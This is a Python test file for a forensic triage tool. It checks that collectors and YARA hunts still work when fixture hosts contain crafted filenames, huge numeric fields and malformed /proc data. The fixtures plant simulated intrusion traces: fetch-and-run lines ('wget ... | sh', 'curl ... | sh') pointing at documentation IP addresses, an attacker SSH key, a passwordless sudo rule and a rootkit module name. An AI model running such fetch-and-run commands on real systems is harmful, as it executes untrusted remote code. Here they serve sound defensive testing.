"""Issue 10 point 3: one bad name or one bad record never disables a collector or a hunt.

Real triages of fixture roots (no mocks): the attack is planted beside a miner's cron and
dropper, and what the clean twin finds must still be found.
"""

import os
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from irkit.hunt import FileScanner, compile_rules
from tests.collecting import collect_bundle, log_entries, records
from tests.hostfixtures import write_tree
from tests.hostile.fuzzing import fuzz_settings
from tests.hostile.items_helpers import (
    BAD_NAME,
    MINER_CRON,
    WALLET,
    bundle_json,
    bundle_lines,
    iocs,
    json_report,
    miner_root,
    plant_bytes_name,
    serious,
    triage_args,
)
from tests.persistence_fixture import AT_JOB, KEY
from tests.test_collectors_processes import fixture_host, stat_line

RunIrkit = Callable[..., subprocess.CompletedProcess[bytes]]


def test_a_cron_file_named_with_a_non_utf8_byte_hides_nothing(
    tmp_path: Path, run_irkit: RunIrkit
) -> None:
    plain = miner_root(tmp_path / "plain")
    attacked = miner_root(tmp_path / "attacked")
    plant_bytes_name(attacked, BAD_NAME, b"@reboot root /bin/true\n")

    before = run_irkit(*triage_args(plain, tmp_path / "plain.zip"))
    after = run_irkit(*triage_args(attacked, tmp_path / "attacked.zip"))

    assert before.returncode == 1, before.stderr.decode()
    assert after.returncode == 1, after.stderr.decode()
    found, still = json_report(before), json_report(after)
    assert serious(found), "the fixture must give high or critical findings"
    assert serious(still) == serious(found)
    assert ("wallet", WALLET) in iocs(found)
    assert iocs(found) <= iocs(still)
    assert still["verdict"]["verdict"] == found["verdict"]["verdict"]
    hunts = [e for e in bundle_lines(tmp_path / "attacked.zip", "collection.log")
             if e["collector"].startswith("hunt:")]  # fmt: skip
    assert not [e for e in hunts if e["outcome"] == "error"], hunts
    sources = {r["source"] for r in bundle_lines(tmp_path / "attacked.zip",
                                                 "records/persistence.jsonl")}  # fmt: skip
    assert "/etc/cron.d/job\udcff" in sources


def test_a_5000_digit_uid_in_one_at_job_is_one_logged_skip(
    tmp_path: Path, run_irkit: RunIrkit
) -> None:
    root = miner_root(tmp_path / "root")
    bad_job = AT_JOB.replace("uid=1000", "uid=" + "9" * 5000)
    files = {
        "var/spool/cron/atjobs/a0000101a2b3c4": bad_job,
        "etc/systemd/system/helper.service": "[Service]\nExecStart=/opt/.x/start.sh\n",
        "root/.ssh/authorized_keys": f"ssh-ed25519 {KEY} attacker\n",
    }
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    out = tmp_path / "case.zip"

    proc = run_irkit(*triage_args(root, out))

    assert proc.returncode == 1, proc.stderr.decode()
    assert bundle_json(out, "manifest.json")["complete"] is True
    records = bundle_lines(out, "records/persistence.jsonl")
    mechanisms = {r["mechanism"] for r in records}
    assert {"systemd", "authorized_keys", "cron"} <= mechanisms
    at = [r for r in records if r["mechanism"] == "at"]
    assert [r["command"] for r in at] == ["wget -q -O- http://203.0.113.9/s.sh | sh"]
    assert at[0]["detail"]["uid"] is None
    log = bundle_lines(out, "collection.log")
    skips = [e for e in log if e["detail"].get("path") == "/var/spool/cron/atjobs/a0000101a2b3c4"
             and e["step"] == "parse"]  # fmt: skip
    assert [(e["detail"]["line"], e["error"][:16]) for e in skips] == [(2, "uid not a number")]
    assert not [e for e in log if e["step"] == "collector-end" and e["outcome"] == "error"]


def test_crafted_proc_links_and_rows_cost_only_themselves(tmp_path: Path) -> None:
    """A --proc tree is host data: fd and ns links and /proc/net rows may say anything."""
    proc = tmp_path / "proc"
    header = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid\n"
    row = "   {n}: 0100007F:0D3D 0100007F:A1B2 01 0:0 0:0 0 {uid} 0 {ino}\n"
    write_tree(
        proc,
        {
            "net/tcp": header
            + row.format(n=0, uid=1000, ino=12345)
            + row.format(n=1, uid="9" * 5000, ino=777)
            + row.format(n=2, uid=0, ino="1" * 4000),
            "100/comm": "kworkerds\n",
            "100/stat": "100 (kworkerds) S 1 100 100 0 -1 0\n",
        },
    )
    (proc / "100/fd").mkdir()
    (proc / "100/ns").mkdir()
    links = {"fd/3": "socket:[12345]", "fd/4": "socket:[" + "9" * 4000 + "]", "fd/5": "socket:[x"}
    for rel, target in {**links, "ns/net": "net:[" + "7" * 4000 + "]"}.items():
        os.symlink(target, proc / "100" / rel)

    bundle = collect_bundle(tmp_path / "b.zip", "sockets", root=tmp_path / "none", proc=proc)

    sockets = records(bundle, "socket")
    assert [(s["inode"], s["pid"]) for s in sockets] == [(12345, 100)]
    problems = [
        e for e in log_entries(bundle) if e["collector"] == "sockets" and e["step"] == "parse"
    ]
    assert len(problems) == 2, problems


def test_a_crafted_passwd_line_costs_only_that_account(tmp_path: Path) -> None:
    """A NUL in a home directory made every path under it raise ValueError (not OSError)."""
    root = tmp_path / "root"
    write_tree(
        root,
        {
            "etc/passwd": "root:x:0:0:root:/root:/bin/bash\n"
            "evil:x:0:0::/home/e\0vil:/bin/sh\n"
            f"huge:x:{'9' * 5000}:0::/home/huge:/bin/sh\n"
            "alice:x:1000:1000::/home/alice:/bin/bash\n",
            "etc/group": "sudo:x:27:alice\n",
            "etc/sudoers": "alice ALL=(ALL) NOPASSWD: ALL\n",
            "home/alice/.bash_history": "curl http://198.51.100.7/x | sh\n",
            "home/alice/.ssh/authorized_keys": f"ssh-ed25519 {KEY} alice\n",
        },
    )

    bundle = collect_bundle(tmp_path / "b.zip", "persistence", "accounts", root=root)

    assert {r["name"] for r in records(bundle, "account")} == {"root", "evil", "alice"}
    assert [r["rule"] for r in records(bundle, "sudo_rule")] == ["alice ALL=(ALL) NOPASSWD: ALL"]
    keys = [r for r in records(bundle, "persistence") if r["mechanism"] == "authorized_keys"]
    assert [k["source"] for k in keys] == ["/home/alice/.ssh/authorized_keys"]
    assert "files/home/alice/.bash_history" in zipfile.ZipFile(bundle).namelist()
    crafted = [e for e in log_entries(bundle) if "\0" in str(e["detail"].get("path", ""))]
    assert crafted and all(e["outcome"] in ("error", "skipped") for e in crafted), crafted


def test_crafted_proc_numbers_cost_only_their_process(tmp_path: Path) -> None:
    """int() raised on a 5,000-digit uid in /proc/PID/status and on an `ns` link that is not
    `type:[digits]`, and took 4,000-digit counters a start time cannot be made of. Each costs
    its process (or its field), not the processes collector."""
    root, proc = fixture_host(tmp_path)
    huge = "9" * 4000
    write_tree(
        proc,
        {
            "stat": f"cpu 1 2 3\nbtime {huge}\n",
            "50/stat": stat_line(50, "big", 1).replace(" 1 ", f" {huge} ", 1),
            "51/stat": stat_line(51, "uid", 1),
            "51/status": f"Tgid:\t51\nUid:\t{'9' * 5000}\t0\t0\t0\nGid:\t0\t0\t0\t0\n",
        },
    )
    (proc / "51" / "ns").mkdir()
    (proc / "51" / "ns" / "mnt").symlink_to("mnt:[" + huge + "]")
    (proc / "51" / "ns" / "pid").symlink_to("pid:[x")

    bundle = collect_bundle(tmp_path / "b.zip", "processes", root=root, proc=proc)

    found = {r["pid"]: r for r in records(bundle, "process")}
    assert sorted(found) == [1, 42, 51]
    assert found[51]["uid"] is None and found[51]["namespaces"] == {}
    assert found[1]["start_time"] is None, "a crafted boot time is no boot time"
    unreadable = [e["detail"]["path"] for e in log_entries(bundle) if e["step"] == "parse"]
    assert "/proc/50/stat" in unreadable


def test_a_file_named_with_any_bytes_reaches_yara_and_keeps_its_name(tmp_path: Path) -> None:
    """yara-python encodes string externals strictly: b"job\\xff" raised UnicodeEncodeError."""
    rules = tmp_path / "name.yar"
    rules.write_text(
        'rule named_job { condition: filename startswith "job" }\n'
        'rule marked { strings: $m = "MARKER" condition: $m }\n'
    )
    scanner = FileScanner(compile_rules(rules, cache_dir=tmp_path / "cache").rules)
    name = os.fsencode(tmp_path) + b"/job\xff"
    with open(name, "wb") as handle:
        handle.write(b"MARKER\n")

    for path in (name, os.fsdecode(name)):
        result = scanner.scan_file(path)
        assert result.errors == []
        assert sorted(hit.rule for hit in result.hits) == ["marked", "named_job"]
        assert result.target == os.fsdecode(name)


def test_crafted_module_numbers_cost_only_their_line(tmp_path: Path) -> None:
    """A 4,000-digit taint mask passed int() and became 13,000 'unknown taint bit' flags."""
    proc = write_tree(
        tmp_path / "proc",
        {
            "modules": "diamorphine 16384 0 - Live 0xffffffffc0a00000 (OE)\n"
            f"big {'9' * 4000} 0 - Live 0x0\nwide \uff19 0 - Live 0x0\n"
            f"refs 4096 {'7' * 5000} - Live 0x0\n",
            "sys/kernel/tainted": "9" * 4000 + "\n",
        },
    )

    bundle = collect_bundle(tmp_path / "b.zip", "modules", root=tmp_path / "none", proc=proc)

    modules = {r["name"]: r for r in records(bundle, "kernel_module")}
    assert sorted(modules) == ["diamorphine", "refs"]
    assert modules["refs"]["refcount"] == -1
    assert records(bundle, "kernel_taint") == []
    problems = [e for e in log_entries(bundle) if e["step"] == "parse"]
    assert [e["detail"].get("line") for e in problems] == [2, 3, None]


@fuzz_settings(50)
@given(
    names=st.lists(
        st.binary(min_size=1, max_size=24).filter(
            lambda n: b"/" not in n and b"\0" not in n and n not in (b".", b"..")
        ),
        min_size=1,
        max_size=4,
        unique=True,
    ),
    content=st.binary(max_size=200) | st.sampled_from([MINER_CRON.encode(), AT_JOB.encode()]),
)
def test_any_names_and_bytes_in_the_spools_never_stop_the_collector(
    tmp_path_factory: pytest.TempPathFactory, names: list[bytes], content: bytes
) -> None:
    """Every file of cron.d and the at spool, whatever its name and bytes, is copied and
    parsed or logged; the units and keys after them are still collected."""
    base = tmp_path_factory.mktemp("spools")
    root = miner_root(base / "root")
    (root / "var/spool/cron/atjobs").mkdir(parents=True)
    (root / "root/.ssh").mkdir(parents=True)
    (root / "root/.ssh/authorized_keys").write_text(f"ssh-ed25519 {KEY} k\n")
    for directory in (b"etc/cron.d/", b"var/spool/cron/atjobs/"):
        for name in names:
            plant_bytes_name(root, directory + name, content)

    bundle = collect_bundle(base / "b.zip", "persistence", root=root)

    mechanisms = {r["mechanism"] for r in records(bundle, "persistence")}
    assert "authorized_keys" in mechanisms
    copied = set(zipfile.ZipFile(bundle).namelist())
    assert len([m for m in copied if m.startswith("files/etc/cron.d/")]) == len(names) + 1
